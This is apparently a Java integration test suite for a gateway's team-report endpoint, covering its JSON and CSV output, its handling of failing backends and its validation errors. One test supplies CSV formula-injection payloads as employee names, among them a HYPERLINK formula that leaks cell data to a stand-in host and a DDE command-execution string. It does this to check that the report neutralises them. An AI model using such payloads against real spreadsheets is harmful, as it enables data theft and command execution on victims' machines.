package dev.ascent.gateway.report;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.http.Fault;
import dev.ascent.gateway.access.TestTokens;
import dev.ascent.testsupport.PostgresTestResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.nullValue;

@QuarkusTest
@WithTestResource(PostgresTestResource.class)
@WithTestResource(TestTokens.class)
@WithTestResource(ReportBackends.class)
class TeamReportResourceTest {

    private static final UUID MANAGER = UUID.fromString("00000000-0000-4000-8000-0000000000aa");
    private static final UUID ADA = UUID.fromString("00000000-0000-4000-8000-000000000001");
    private static final UUID ZOE = UUID.fromString("00000000-0000-4000-8000-000000000002");
    private static final UUID NEW = UUID.fromString("00000000-0000-4000-8000-000000000003");
    /** assessment-service's readiness columns of a whole team, which it walks itself. */
    private static final String READINESS_OF_MANAGER = "/api/v1/people/" + MANAGER + "/team/readiness-columns";

    private static final com.fasterxml.jackson.databind.ObjectMapper JSON = new com.fasterxml.jackson.databind.ObjectMapper();

    @ReportBackends.Inject
    WireMockServer services;

    @BeforeEach
    void stubServices() {
        services.resetAll();
        services.stubFor(get("/api/v1/people/" + MANAGER + "/team?depth=all").willReturn(json("""
                {"managerId":"%s","allLevels":true,"people":[
                  {"id":"%s","name":"Ada \\"the analyst\\", Lovelace","email":"ada@example.com","level":"PM","targetLevel":null,"managerId":"%s","depth":1},
                  {"id":"%s","name":"Zoë Ångström","email":"zoe@example.com","level":"SENIOR_PM","targetLevel":"PRINCIPAL_PM","managerId":"%s","depth":1},
                  {"id":"%s","name":"Newcomer","email":"new@example.com","level":"APM","targetLevel":null,"managerId":"%s","depth":2}]}
                """.formatted(MANAGER, ADA, MANAGER, ZOE, MANAGER, NEW, ZOE))));
        // assessment-service's compact layout (ReadinessColumns): codes once, a person as an array naming them by position
        services.stubFor(get(urlPathEqualTo(READINESS_OF_MANAGER)).willReturn(json("""
                {"frameworkVersion":1,"evidenceAvailable":true,"codes":["influence","customer-discovery","product-craft"],
                 "people":[
                  ["%s","SENIOR_PM",72,"EMERGING","2026-10-01T10:00:00Z",[0,1],[0,3,2.0,1,4,null],
                   [1,"OPINION_ONLY",0,"UNDER_RECOGNISED",2,"OPINION_ONLY"]],
                  ["%s","PRINCIPAL_PM",100,"READY","2026-09-01T10:00:00Z",[],null,[]],
                  ["%s","PM",10,"NOT_READY",null,[0],null,[]]],
                 "competencyTotals":[
                  {"competency":"influence","rated":2,"ratingSum":6.0,"expectedOf":3,"expectedSum":9.0},
                  {"competency":"customer-discovery","rated":1,"ratingSum":3.0,"expectedOf":2,"expectedSum":8.0}]}
                """.formatted(ADA, ZOE, NEW))));
        services.stubFor(post("/api/v1/evidence/counts").willReturn(json("""
                {"counts":[{"personId":"%s","kind":"DELIVERY","competency":"execution-delivery","count":2},
                           {"personId":"%s","kind":"LAUNCH_OUTCOME","competency":"execution-delivery","count":1},
                           {"personId":"%s","kind":"CUSTOMER_DISCOVERY_SESSION","competency":"customer-discovery","count":3}]}
                """.formatted(ADA, ADA, ZOE))));
        services.stubFor(post("/api/v1/plans/status/bulk").willReturn(json("""
                {"progressStale":false,"people":[
                  {"personId":"%s","planId":"%s","status":"ACTIVE","progressPercent":40,"actionsDone":2,"actionsTotal":5},
                  {"personId":"%s","planId":null,"status":null,"progressPercent":null,"actionsDone":null,"actionsTotal":null},
                  {"personId":"%s","planId":null,"status":null,"progressPercent":null,"actionsDone":null,"actionsTotal":null}]}
                """.formatted(ADA, UUID.randomUUID(), ZOE, NEW))));
    }

    private static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder json(String body) {
        return aResponse().withHeader("Content-Type", "application/json").withBody(body);
    }

    @Test
    void reportsEveryPersonAndTheTeamFromOneCallPerService() {
        given().header("Authorization", TestTokens.admin()).queryParam("depth", "all").get("/api/v1/teams/{id}/report", MANAGER).then()
                .statusCode(200)
                .body("size", equalTo(3))
                .body("unavailable.size()", equalTo(0))
                .body("people.personId", contains(ADA.toString(), ZOE.toString(), NEW.toString()))
                .body("people[0].targetLevel", equalTo("SENIOR_PM"))
                .body("people[0].readinessPercent", equalTo(72))
                .body("people[0].topGaps", contains("influence", "customer-discovery"))
                .body("people[0].evidenceLast90Days.execution-delivery", equalTo(3))
                .body("people[0].planStatus", equalTo("ACTIVE"))
                .body("people[0].planProgressPercent", equalTo(40))
                .body("people[1].evidenceLast90Days.customer-discovery", equalTo(3))
                .body("people[0].competencies.influence.expected", equalTo(3))
                .body("people[0].competencies.influence.rating", equalTo(2.0f))
                .body("people[0].competencies.customer-discovery.expected", equalTo(4))
                .body("people[0].competencies.customer-discovery.rating", nullValue())
                .body("people[1].competencies", nullValue())
                .body("people[0].signals.competency", contains("customer-discovery", "influence", "product-craft"))
                .body("people[0].signals.signal", contains("OPINION_ONLY", "UNDER_RECOGNISED", "OPINION_ONLY"))
                .body("people[1].signals.size()", equalTo(0))
                .body("people[2].signals.size()", equalTo(0))
                .body("people[2].depth", equalTo(2))
                .body("people[2].lastAssessmentAt", nullValue())
                .body("readinessDistribution.NOT_READY", equalTo(1))
                .body("readinessDistribution.EMERGING", equalTo(1))
                .body("readinessDistribution.READY", equalTo(1))
                .body("heatmap.find { it.competency == 'influence' }.teamAverage", equalTo(3.0f))
                .body("heatmap.find { it.competency == 'influence' }.expectedAverage", equalTo(3.0f))
                .body("heatmap.find { it.competency == 'influence' }.rated", equalTo(2))
                .body("heatmap.find { it.competency == 'influence' }.expectedOf", equalTo(3))
                .body("heatmap.find { it.competency == 'customer-discovery' }.gap", equalTo(1.0f));

        services.verify(1, getRequestedFor(urlPathEqualTo("/api/v1/people/" + MANAGER + "/team")));
        services.verify(1, getRequestedFor(urlEqualTo(READINESS_OF_MANAGER + "?depth=all&competencies=true"))
                .withHeader("Authorization", com.github.tomakehurst.wiremock.client.WireMock.matching("Bearer .+")));
        services.verify(1, postRequestedFor(urlEqualTo("/api/v1/evidence/counts")));
        services.verify(1, postRequestedFor(urlEqualTo("/api/v1/plans/status/bulk")));
    }

    /**
     * assessment-service finds the team's readiness itself, so the gateway asks for it beside the team,
     * not after it: with the team answering a second late, the readiness request arrives before it.
     */
    @Test
    void readinessIsAskedBesideTheTeamNotAfterIt() {
        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + MANAGER + "/team")).willReturn(json("""
                {"managerId":"%s","allLevels":false,"people":[
                  {"id":"%s","name":"Ada","email":"ada@example.com","level":"PM","targetLevel":null,"managerId":"%s","depth":1}]}
                """.formatted(MANAGER, ADA, MANAGER)).withFixedDelay(1_500)));

        given().header("Authorization", TestTokens.admin()).get("/api/v1/teams/{id}/report", MANAGER).then()
                .statusCode(200).body("people[0].readinessPercent", equalTo(72));

        var team = services.findAll(getRequestedFor(urlPathEqualTo("/api/v1/people/" + MANAGER + "/team")));
        var readiness = services.findAll(getRequestedFor(urlEqualTo(READINESS_OF_MANAGER + "?depth=direct&competencies=true")));
        assertThat(team).hasSize(1);
        assertThat(readiness).hasSize(1);
        assertThat(readiness.getFirst().getLoggedDate().getTime() - team.getFirst().getLoggedDate().getTime())
                .as("ms from asking for the team to asking for its readiness").isLessThan(1_000);
    }

    @Test
    void csvIsQuotedUtf8WithAHeader() throws Exception {
        byte[] body = given().header("Authorization", TestTokens.admin()).accept("text/csv").queryParam("depth", "all").get("/api/v1/teams/{id}/report", MANAGER)
                .then().statusCode(200)
                .contentType(containsString("text/csv"))
                .contentType(containsString("charset=UTF-8"))
                .extract().asByteArray();
        String csv = new String(body, StandardCharsets.UTF_8);
        assertThat(csv.lines().findFirst().orElseThrow()).startsWith("person_id,name,email,manager_id,depth,level");
        assertThat(csv).contains("\"Ada \"\"the analyst\"\", Lovelace\"");

        MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv);
        List<Map<String, String>> all = rows.readAll();
        assertThat(all).hasSize(3);
        assertThat(all.get(0)).containsEntry("name", "Ada \"the analyst\", Lovelace")
                .containsEntry("readiness_percent", "72")
                .containsEntry("top_gaps", "influence;customer-discovery")
                .containsEntry("evidence_90d", "execution-delivery:3")
                .containsEntry("opinion_only", "customer-discovery;product-craft")
                .containsEntry("under_recognised", "influence");
        assertThat(all.get(1)).containsEntry("name", "Zoë Ångström").containsEntry("plan_status", "")
                .containsEntry("opinion_only", "").containsEntry("under_recognised", "");
        // the CSV has no per-person cells, so it does not make the service compute them
        services.verify(1, getRequestedFor(urlEqualTo(READINESS_OF_MANAGER + "?depth=all&competencies=false")));
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreInertAndTheReportsNumbersAreNot() throws Exception {
        UUID manager = UUID.randomUUID();
        List<String> hostile = List.of("=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
                "@SUM(A1)", "\tTabbed", "\rReturned");
        List<Map<String, Object>> people = new java.util.ArrayList<>();
        List<String> names = new java.util.ArrayList<>(hostile);
        names.add("Ada Lovelace");
        List<UUID> ids = new java.util.ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            UUID id = UUID.randomUUID();
            ids.add(id);
            Map<String, Object> person = new java.util.HashMap<>();
            person.put("id", id.toString());
            person.put("name", names.get(i));
            person.put("email", "p" + i + "@example.com");
            person.put("level", i == 0 ? "=LEVEL()" : "PM");
            person.put("targetLevel", null);
            person.put("managerId", manager.toString());
            person.put("depth", 1);
            people.add(person);
        }
        UUID ada = ids.getLast();
        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + manager + "/team")).willReturn(json(JSON.writeValueAsString(
                Map.of("managerId", manager.toString(), "allLevels", false, "people", people)))));
        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + manager + "/team/readiness-columns")).willReturn(json("""
                {"frameworkVersion":1,"evidenceAvailable":true,"codes":["-influence","=influence"],"people":[
                  ["%s","SENIOR_PM",72,"EMERGING",null,[0],null,[1,"UNDER_RECOGNISED"]]],
                 "competencyTotals":[
                  {"competency":"influence","rated":2,"ratingSum":8.0,"expectedOf":2,"expectedSum":6.0},
                  {"competency":"@evil","rated":1,"ratingSum":1.0,"expectedOf":1,"expectedSum":2.0}]}
                """.formatted(ada))));
        services.stubFor(post("/api/v1/evidence/counts").willReturn(json("{\"counts\":[]}")));
        services.stubFor(post("/api/v1/plans/status/bulk").willReturn(json("{\"progressStale\":false,\"people\":[]}")));

        List<Map<String, String>> rows = readCsv(given().header("Authorization", TestTokens.admin()).accept("text/csv")
                .get("/api/v1/teams/{id}/report", manager).then().statusCode(200).extract().asString());

        assertThat(rows).hasSize(names.size());
        for (int i = 0; i < hostile.size(); i++) {
            assertThat(rows.get(i).get("name")).startsWith("'").isEqualTo("'" + hostile.get(i));
        }
        assertThat(rows.get(0)).containsEntry("level", "'=LEVEL()");
        assertThat(rows.getLast()).containsEntry("name", "Ada Lovelace").containsEntry("level", "PM")
                .containsEntry("email", "p6@example.com").containsEntry("depth", "1")
                .containsEntry("readiness_percent", "72").containsEntry("top_gaps", "'-influence")
                .containsEntry("under_recognised", "'=influence");

        String heatmapCsv = given().header("Authorization", TestTokens.admin()).accept("text/csv")
                .queryParam("view", "heatmap").get("/api/v1/teams/{id}/report", manager).then().statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("team-" + manager + "-heatmap.csv"))
                .extract().asString();
        assertThat(heatmapCsv.lines().findFirst().orElseThrow())
                .isEqualTo("competency,team_average,expected_average,gap,rated,expected_of");
        List<Map<String, String>> heatmap = readCsv(heatmapCsv);
        // The team is above expectations in influence: a negative gap the report computed, not text.
        assertThat(heatmap.get(0)).containsEntry("competency", "influence").containsEntry("team_average", "4.0")
                .containsEntry("expected_average", "3.0").containsEntry("gap", "-1.0")
                .containsEntry("rated", "2").containsEntry("expected_of", "2");
        assertThat(heatmap.get(1)).containsEntry("competency", "'@evil").containsEntry("gap", "1.0");
    }

    @Test
    void theHeatmapCsvNeedsReadinessAndViewIsChecked() {
        services.stubFor(get(urlPathEqualTo(READINESS_OF_MANAGER)).willReturn(aResponse().withStatus(503)));
        given().header("Authorization", TestTokens.admin()).accept("text/csv").queryParam("view", "heatmap")
                .queryParam("depth", "all").get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(503)
                .contentType("application/problem+json")
                .body("detail", containsString("assessment-service"));
        given().header("Authorization", TestTokens.admin()).accept("text/csv").queryParam("view", "sideways")
                .get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(400)
                .body("violations[0].field", equalTo("view"));
    }

    private static List<Map<String, String>> readCsv(String csv) throws java.io.IOException {
        MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv);
        return rows.readAll();
    }

    @Test
    void aServiceThatIsDownLeavesItsColumnsUnavailable() {
        services.stubFor(post("/api/v1/evidence/counts").willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
        services.stubFor(post("/api/v1/plans/status/bulk").willReturn(aResponse().withStatus(503)));

        given().header("Authorization", TestTokens.admin()).queryParam("depth", "all").get("/api/v1/teams/{id}/report", MANAGER).then()
                .statusCode(200)
                .body("unavailable", contains("evidenceLast90Days", "planStatus", "planProgressPercent"))
                .body("people[0].evidenceLast90Days", nullValue())
                .body("people[0].planStatus", nullValue())
                .body("people[0].readinessPercent", equalTo(72));
    }

    @Test
    void anUnknownManagerIsAProblemAndADownDirectoryIsA503() {
        UUID nobody = UUID.randomUUID();
        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + nobody + "/team")).willReturn(aResponse().withStatus(404)));
        given().header("Authorization", TestTokens.admin()).get("/api/v1/teams/{id}/report", nobody).then().statusCode(404).contentType("application/problem+json");

        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + MANAGER + "/team"))
                .willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
        given().header("Authorization", TestTokens.admin()).get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(503)
                .contentType("application/problem+json")
                .body("detail", containsString("assessment-service"));
        given().header("Authorization", TestTokens.admin()).queryParam("depth", "sideways").get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(400)
                .body("violations[0].field", equalTo("depth"));
    }

    @Test
    void aTeamTooLargeForOneReportIsA422SayingSo() {
        UUID large = UUID.randomUUID();
        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + large + "/team")).willReturn(aResponse().withStatus(422)
                .withHeader("Content-Type", "application/problem+json")
                .withBody("{\"type\":\"urn:ascent:problem:team-too-large\",\"status\":422}")));
        for (String format : List.of("application/json", "text/csv")) {
            given().header("Authorization", TestTokens.admin()).accept(format).get("/api/v1/teams/{id}/report", large).then()
                    .statusCode(422).contentType("application/problem+json")
                    .body("type", equalTo("urn:ascent:problem:team-too-large"))
                    .body("detail", containsString("direct reports"));
        }
    }

    @Test
    void aTeamAnswerWithoutPeopleIsA503NotA500() {
        for (String body : List.of("{}", "{\"managerId\":\"" + MANAGER + "\",\"people\":null}")) {
            services.stubFor(get(urlPathEqualTo("/api/v1/people/" + MANAGER + "/team"))
                    .willReturn(aResponse().withHeader("Content-Type", "application/json").withBody(body)));
            given().header("Authorization", TestTokens.admin()).get("/api/v1/teams/{id}/report", MANAGER).then()
                    .statusCode(503).contentType("application/problem+json")
                    .body("detail", containsString("assessment-service"));
        }
    }
}
